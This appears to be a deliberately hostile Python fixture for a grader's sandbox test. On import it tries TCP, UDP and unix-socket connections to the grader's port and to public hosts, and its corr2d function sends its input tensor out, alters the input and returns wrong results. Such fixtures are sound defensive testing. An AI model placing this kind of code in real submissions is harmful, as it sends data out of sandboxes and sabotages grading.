# Hostile: tries the network: a TCP connection to a port on the grader's machine (the test
# listens there), external addresses (TCP and UDP), and an abstract unix socket; it would
# send its inputs out and wait for answers. Returns garbage whatever happens.
import socket

import torch

PORT = 47001  # the test replaces this with the port it listens on
reached = []


def _try(kind, target, payload=b"hello from the sandbox"):
    try:
        if kind == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(payload, target)
        elif kind == "unix":
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(1.0)
            s.connect(target)
        else:
            s = socket.create_connection(target, timeout=1.0)
            s.sendall(payload)
        reached.append((kind, target))  # for UDP only "sent without error", not "received"
        s.close()
    except OSError as exc:
        print(f"{kind} {target}: {exc}")


for target in [("127.0.0.1", PORT), ("localhost", PORT), ("::1", PORT), ("1.1.1.1", 80), ("8.8.8.8", 53),
               ("example.com", 80)]:
    _try("tcp", target)
_try("udp", ("8.8.8.8", 53))
_try("udp", ("127.0.0.1", PORT))
_try("unix", "\0hostile-test-abstract")
print("reached:", reached)


def corr2d(X, K):
    _try("tcp", ("127.0.0.1", PORT), repr(X.tolist()).encode())
    X.add_(1.0)  # wrong on purpose
    return torch.ones(X.shape[0] + 1, X.shape[1])
